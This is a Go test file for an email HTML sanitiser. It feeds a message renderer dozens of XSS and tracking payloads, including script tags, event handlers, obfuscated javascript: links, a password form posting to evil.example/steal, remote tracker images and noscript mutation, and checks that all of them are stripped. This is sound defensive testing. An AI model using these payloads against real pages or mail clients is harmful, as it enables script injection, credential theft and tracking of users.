package render

import (
	"fmt"
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
)

// unsafeHTML returns what makes sanitised HTML unsafe: a script start
// anywhere, a forbidden element, an event handler or style attribute, an
// attribute that loads something, a link that is not http, https or mailto,
// or an image whose src is not one of the part URLs.
func unsafeHTML(s string, partURLs map[string]bool) []string {
	var bad []string
	if strings.Contains(strings.ToLower(s), "<script") {
		bad = append(bad, "<script")
	}
	z := xhtml.NewTokenizer(strings.NewReader(s))
	for {
		tt := z.Next()
		if tt == xhtml.ErrorToken {
			return bad
		}
		if tt == xhtml.CommentToken || tt == xhtml.DoctypeToken {
			bad = append(bad, "comment or doctype")
			continue
		}
		if tt != xhtml.StartTagToken && tt != xhtml.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		switch tok.Data {
		case "script", "style", "iframe", "frame", "object", "embed", "svg", "math", "form", "input",
			"button", "textarea", "select", "meta", "base", "link", "video", "audio", "source", "image",
			"body", "html", "head", "title", "noscript", "template", "applet", "frameset", "param", "area", "map":
			bad = append(bad, "<"+tok.Data+">")
		}
		for _, a := range tok.Attr {
			k, v := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(k, "on"):
				bad = append(bad, "event handler "+k)
			case k == "style" || k == "srcset" || k == "background" || k == "action" || k == "formaction" ||
				k == "poster" || k == "data" || k == "xlink:href" || k == "ping" || k == "lowsrc" || k == "dynsrc":
				bad = append(bad, "attribute "+k)
			case k == "href" && !(strings.HasPrefix(v, "http:") || strings.HasPrefix(v, "https:") || strings.HasPrefix(v, "mailto:")):
				bad = append(bad, "href "+v)
			case k == "src" && !(tok.Data == "img" && partURLs[a.Val]):
				bad = append(bad, "src "+v)
			case strings.Contains(v, "javascript:") || strings.Contains(v, "vbscript:"):
				bad = append(bad, "script URL in "+k)
			}
		}
	}
}

// hostileMessage is an HTML body in a multipart/related with a PNG (cid
// logo@x) and an SVG (cid vector@x).
func hostileMessage(t testing.TB, html string) []byte {
	return buildMessage("hostile", multipart("related", "r",
		htmlPart(html),
		binaryPart("Content-Type: image/png\nContent-ID: <logo@x>", pngBytes(t)),
		mimePart{header: "Content-Type: image/svg+xml\nContent-ID: <vector@x>", body: svgImage},
	))
}

func TestHostileHTML(t *testing.T) {
	tests := []struct {
		name string
		html string
		bad  []string // must not appear (case-insensitive)
		keep []string // must appear
	}{
		{"script", `<script>alert(1)</script><SCRIPT SRC="http://evil.example/x.js"></SCRIPT><p>ok</p>`,
			[]string{"<script", "alert(1)", "evil.example"}, []string{"<p>ok</p>"}},
		{"onerror", `<img src="cid:logo@x" onerror="alert(2)"><img src=x onerror=alert(2)>`,
			[]string{"onerror", "alert(2)"}, []string{`<img src="/part/0">`}},
		{"other handlers", `<body onload="alert(3)"><p onclick="alert(4)" onmouseover="alert(4)">x</p><details open ontoggle=alert(4)>d</details>`,
			[]string{"onload", "onclick", "onmouseover", "ontoggle", "alert("}, []string{"<p>x</p>"}},
		{"javascript links", `<a href="javascript:alert(5)">a</a><a href="JaVaScRiPt:alert(5)">b</a><a href="jav&#x09;ascript:alert(5)">c</a><a href=" javascript:alert(5)">d</a><a href="&#106;avascript:alert(5)">e</a>`,
			[]string{"javascript", "alert(5)", "href"}, []string{"a", "b", "c", "d", "e"}},
		{"other link schemes", `<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD4=">d</a><a href="file:///etc/passwd">f</a><a href="/relative">r</a>`,
			[]string{"vbscript", "data:", "file:", "relative", "href"}, nil},
		{"good links", `<a href="https://ok.example/a">https</a> <a href="http://ok.example/b">http</a> <a href="mailto:gp@ok.example">mail</a>`,
			nil, []string{`href="https://ok.example/a"`, `href="http://ok.example/b"`, `href="mailto:gp@ok.example"`, `target="_blank"`, "noopener", "noreferrer", "nofollow"}},
		{"remote images", `<img src="http://tracker.example/a.gif"><img src="https://tracker.example/b.gif" alt="b"><img src="//tracker.example/c.gif"><img src="/relative.gif"><img src="cid:nosuch@x">`,
			[]string{"tracker", "<img", "relative", "nosuch"}, nil},
		{"srcset", `<img src="cid:logo@x" srcset="http://tracker.example/x.png 2x"><picture><source srcset="http://tracker.example/y.png"></picture>`,
			[]string{"srcset", "tracker", "<source"}, []string{`<img src="/part/0">`}},
		{"data image", `<img src="data:image/png;base64,iVBORw0KGgo=">`, []string{"<img", "data:"}, nil},
		{"forms", `<form action="http://evil.example/steal" method="post"><input name="pw" type="password"><button formaction="http://evil.example/b">Send</button><textarea>t</textarea><select><option>o</option></select></form>`,
			[]string{"<form", "<input", "<button", "<textarea", "<select", "<option", "action", "evil.example"}, []string{"Send"}},
		{"inline svg", `<svg onload="alert(6)"><script>alert(7)</script><image href="http://tracker.example/s.png"/><a xlink:href="javascript:alert(8)"><text>t</text></a></svg>`,
			[]string{"<svg", "onload", "alert(", "tracker", "<image", "xlink", "javascript"}, nil},
		{"svg by cid", `<p><img src="cid:vector@x"></p>`, []string{"<img", "cid:", "vector"}, []string{"<p>"}},
		{"css", `<style>body{background:url(http://tracker.example/1)}</style><p style="background-image:url('http://tracker.example/2')">s</p><div style="behavior:url(x.htc);width:expression(alert(9))">d</div>`,
			[]string{"url(", "tracker", "style", "behavior", "expression"}, []string{"<p>s</p>", "<div>d</div>"}},
		{"background attributes", `<table background="http://tracker.example/t.png"><tr><td background="http://tracker.example/u.png" bgcolor="#ffffff">c</td></tr></table>`,
			[]string{"background", "tracker"}, []string{`<td bgcolor="#ffffff">c</td>`}},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=http://evil.example/"><p>m</p>`,
			[]string{"<meta", "refresh", "evil"}, []string{"<p>m</p>"}},
		{"base", `<base href="http://evil.example/"><a href="page.html">rel</a>`, []string{"<base", "evil", "page.html"}, []string{"rel"}},
		{"frames and objects", `<iframe src="http://evil.example/f"></iframe><frameset><frame src="http://evil.example/g"></frameset><object data="http://evil.example/o"><param name="x" value="y"></object><embed src="http://evil.example/e"><applet code="x"></applet>`,
			[]string{"<iframe", "<frame", "<object", "<param", "<embed", "<applet", "evil"}, nil},
		{"link elements", `<link rel="stylesheet" href="http://tracker.example/s.css"><link rel="prefetch" href="http://tracker.example/p">`,
			[]string{"<link", "tracker"}, nil},
		{"media", `<video poster="http://tracker.example/p.png" src="http://tracker.example/v.mp4"></video><audio src="http://tracker.example/a.mp3"></audio>`,
			[]string{"<video", "<audio", "poster", "tracker"}, nil},
		{"noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(10)>">`,
			[]string{"onerror", "alert(10)"}, nil},
		{"conditional comment", `<!--[if gte mso 9]><script>alert(11)</script><![endif]--><p>c</p>`,
			[]string{"alert(11)", "<!--", "<script"}, []string{"<p>c</p>"}},
		{"attribute breakout", `<a href="https://ok.example/" title="&quot; onmouseover=alert(12) x=&quot;">t</a>`,
			[]string{"onmouseover", "alert(12)"}, []string{`href="https://ok.example/"`}},
		{"math", `<math><mi xlink:href="javascript:alert(13)">x</mi><maction actiontype="statusline">y</maction></math>`,
			[]string{"<math", "javascript", "xlink"}, nil},
		{"template and custom elements", `<template><img src=x onerror=alert(14)></template><x-foo onclick="alert(15)">z</x-foo>`,
			[]string{"onerror", "onclick", "<template", "<x-foo"}, []string{"z"}},
		{"formatting survives", `<h2>Title</h2><p><b>b</b> <i>i</i> <u>u</u></p><ul><li>one</li></ul><blockquote>q</blockquote><table border="1"><tr><td colspan="2">c</td></tr></table><font color="red" face="Arial">f</font>`,
			nil, []string{"<h2>Title</h2>", "<b>b</b>", "<i>i</i>", "<u>u</u>", "<li>one</li>", "<blockquote>q</blockquote>", `<table border="1">`, `<td colspan="2">`, `<font color="red" face="Arial">f</font>`}},
	}
	partURLs := map[string]bool{"/part/0": true}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := mustParse(t, hostileMessage(t, tt.html))
			lower := strings.ToLower(v.HTML)
			for _, b := range tt.bad {
				if strings.Contains(lower, strings.ToLower(b)) {
					t.Errorf("HTML contains %q: %s", b, v.HTML)
				}
			}
			for _, k := range tt.keep {
				if !strings.Contains(v.HTML, k) {
					t.Errorf("HTML lacks %q: %s", k, v.HTML)
				}
			}
			if bad := unsafeHTML(v.HTML, partURLs); len(bad) > 0 {
				t.Errorf("unsafe HTML %v: %s", bad, v.HTML)
			}
			inline := strings.Contains(v.HTML, `src="/part/0"`)
			if v.Parts[0].Inline != inline || v.Parts[1].Inline || v.Parts[1].Raster {
				t.Errorf("parts %+v; the PNG is shown: %v", v.Parts, inline)
			}
		})
	}
}

// TestUnsafeHTMLChecker shows that the checker used here and by the fuzzer
// does catch what it looks for.
func TestUnsafeHTMLChecker(t *testing.T) {
	for _, s := range []string{
		`<script>x</script>`, `<p onclick="x">`, `<a href="javascript:x">`, `<img src="http://t.example/x">`,
		`<p style="color:red">`, `<svg>`, `<form>`, `<meta http-equiv=refresh>`, `<base href="http://x/">`, `<!-- c -->`,
		`<img src="/part/0" srcset="http://x 2x">`, `<td background="http://x">`,
	} {
		if len(unsafeHTML(s, map[string]bool{"/part/0": true})) == 0 {
			t.Errorf("unsafeHTML(%q) found nothing", s)
		}
	}
	if bad := unsafeHTML(`<p>ok</p><img src="/part/0"><a href="https://x.example/">x</a>`, map[string]bool{"/part/0": true}); len(bad) > 0 {
		t.Errorf("unsafeHTML of safe HTML = %v", bad)
	}
}

func BenchmarkParseHTML(b *testing.B) {
	var body strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&body, `<tr><td bgcolor="#eeeeee">row %d</td><td><a href="https://x.example/%d">link</a></td></tr>`, i, i)
	}
	raw := hostileMessage(b, "<table>"+body.String()+"</table>")
	b.ResetTimer()
	for b.Loop() {
		if _, err := Parse(raw, testPartURL); err != nil {
			b.Fatal(err)
		}
	}
}
